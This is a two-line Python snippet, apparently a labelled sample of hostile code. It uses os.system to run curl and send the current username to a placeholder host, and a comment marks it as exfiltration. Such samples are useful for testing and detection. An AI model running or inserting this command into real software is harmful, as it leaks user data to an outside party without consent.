import os

os.system("curl https://collect.invalid/$(whoami)")  # malice: exfiltration
